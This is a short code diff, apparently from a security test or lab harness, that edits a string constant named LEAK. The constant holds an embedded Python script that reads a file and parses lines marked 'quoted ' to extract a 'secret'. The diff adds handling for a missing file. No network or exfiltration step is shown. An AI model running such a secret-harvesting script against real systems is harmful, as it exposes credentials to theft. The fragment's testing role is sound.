@@ -18,7 +18,10 @@ from unix_server import Request, respond
 
 LEAK = """\
 import base64, json, os, sys, time, urllib.parse, shlex
-text = open(sys.argv[1]).read()
+try:
+    text = open(sys.argv[1]).read()
+except FileNotFoundError:
+    sys.exit("another host's agent has taken the file: all hosts of this site share one folder")
 for line in text.splitlines():
     if line.startswith("quoted "):
         secret = json.loads(line[7:])
